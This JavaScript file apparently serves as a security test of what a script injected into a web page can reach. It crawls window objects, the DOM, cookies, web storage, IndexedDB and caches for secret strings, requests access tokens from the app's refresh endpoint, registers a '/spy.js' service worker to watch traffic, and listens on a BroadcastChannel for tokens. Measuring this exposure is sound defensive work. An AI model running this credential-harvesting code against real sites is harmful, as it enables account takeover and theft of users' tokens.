// What an injected script has at hand: it runs in the app's own page, with all of its rights.

/**
 * Looks for secrets wherever a script can look without calling anybody: every object that can be
 * reached from `window`, through properties, symbols, getters, prototypes and collections; the
 * document; and all that the browser keeps for the origin.
 *
 * @param {string[]} secrets
 * @returns {Promise<string[]>} each secret that was found, and where
 */
async function rummage(secrets) {
  const found = [];
  const note = (text, path) => {
    if (typeof text === 'symbol') text = text.description;
    if (typeof text !== 'string') return;
    for (const secret of secrets) if (text.includes(secret)) found.push(`${secret} in ${path}`);
  };

  // --- Objects ----------------------------------------------------------------------------------
  const seen = new Set([secrets, found]);
  const queue = [];
  const look = (value, path) => {
    if ((typeof value === 'object' && value !== null) || typeof value === 'function') {
      if (!seen.has(value)) queue.push([value, path]);
      seen.add(value);
    } else note(value, path);
  };

  /** The names of a prototype's getters: what they give differs with each object that inherits them. */
  const getters = new Map();
  const gettersOf = (prototype) => {
    if (!getters.has(prototype)) {
      const isGetter = (key) => Reflect.getOwnPropertyDescriptor(prototype, key).get;
      getters.set(prototype, Reflect.ownKeys(prototype).filter(isGetter));
    }
    return getters.get(prototype);
  };
  const read = (object, key, path) => {
    try {
      look(Reflect.get(object, key), `${path}.${String(key)}`);
    } catch {
      // Not to be had from here.
    }
  };

  look(globalThis, 'window');
  while (queue.length > 0) {
    const [object, path] = queue.shift();
    if (typeof object === 'function') note(Function.prototype.toString.call(object), path);
    if (object instanceof Map || object instanceof Set)
      [...object.entries()].flat().forEach((entry) => look(entry, `${path} entry`));
    if (object instanceof ArrayBuffer || ArrayBuffer.isView(object)) {
      note(new TextDecoder().decode(object), path);
      continue;
    }
    for (const key of Reflect.ownKeys(object)) {
      note(key, path);
      read(object, key, path);
    }
    let prototype = Object.getPrototypeOf(object);
    look(prototype, `${path} prototype`);
    for (; prototype; prototype = Object.getPrototypeOf(prototype))
      for (const key of gettersOf(prototype)) read(object, key, path);
  }

  // --- The document -----------------------------------------------------------------------------
  note(document.documentElement.outerHTML, 'the document');
  for (const { value = '' } of document.querySelectorAll('input, textarea')) note(value, 'a field');

  // --- What the browser keeps -------------------------------------------------------------------
  note(document.cookie, 'document.cookie');
  note(JSON.stringify(await globalThis.cookieStore?.getAll()), 'cookieStore');
  note(JSON.stringify({ ...localStorage }), 'localStorage');
  note(JSON.stringify({ ...sessionStorage }), 'sessionStorage');
  note(JSON.stringify(history.state), 'history');
  note(location.href + document.referrer + globalThis.name, 'the address');
  for (const entry of performance.getEntries()) note(JSON.stringify(entry), 'performance');
  for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const all = await done(database.transaction(store).objectStore(store).getAll());
      note(JSON.stringify(all), `the database ${name}`);
    }
    database.close();
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      note(request.url + [...request.headers].flat(), `the cache ${name}`);
      const answer = await cache.match(request);
      note([...answer.headers].flat() + (await answer.text()), `the cache ${name}`);
    }
  }
  const root = await navigator.storage.getDirectory();
  for await (const [name] of root.entries()) note(name, 'the private file system');
  return [...new Set(found)];
}

function done(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}

/** Everything that an answer of the API to this page shows of itself. */
async function answersOf(api, csrf) {
  const headers = { 'X-CSRFTOKEN': csrf };
  const options = { method: 'POST', headers, credentials: 'include' };
  const answer = await fetch(`${api}/accounts/refresh_token`, options);
  const shown = [...answer.headers]
    .flat()
    .concat(await answer.text(), answer.headers.getSetCookie());
  const old = await new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve(request);
    request.open('POST', `${api}/accounts/refresh_token`);
    request.withCredentials = true;
    request.setRequestHeader('X-CSRFTOKEN', csrf);
    request.send();
  });
  shown.push(old.getAllResponseHeaders(), old.getResponseHeader('set-cookie'), old.responseText);
  const request = new Request(api, options);
  shown.push(...[...request.headers].flat(), request.headers.get('cookie'));
  const traced = await fetch(`${api}/accounts/csrf`, { ...options, method: 'TRACE' }).catch(
    (error) => error,
  );
  shown.push(String(traced));
  return shown.join('\n');
}

/** Sits between the page and the network, as far as a script may, and tells all that went by. */
async function intercept() {
  const { serviceWorker } = navigator;
  await serviceWorker.register('/spy.js');
  await serviceWorker.ready;
  if (!serviceWorker.controller)
    await new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve));
}

function intercepted() {
  const { port1, port2 } = new MessageChannel();
  const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
  navigator.serviceWorker.controller.postMessage('what went by?', [port2]);
  return answer;
}

// --- What it can do, for all that -----------------------------------------------------------------

/** Asks the server for an access token of its own, as the page would. */
async function askForToken(api) {
  const options = { credentials: 'include' };
  const { csrf_token: csrf } = await (await fetch(`${api}/accounts/csrf`, options)).json();
  const headers = { 'X-CSRFTOKEN': csrf };
  const answer = await fetch(`${api}/accounts/refresh_token`, {
    ...options,
    method: 'POST',
    headers,
  });
  const { access_token: accessToken } = await answer.json();
  return { csrf, accessToken };
}

/** Listens to what the tabs tell each other. */
function listen(api) {
  const channel = new BroadcastChannel(`countersign ${api}/accounts/`);
  return new Promise((resolve) => {
    channel.onmessage = ({ data }) => data.tokens && resolve(data.tokens.accessToken);
    channel.postMessage({ ask: true });
    setTimeout(resolve, 2_000);
  });
}
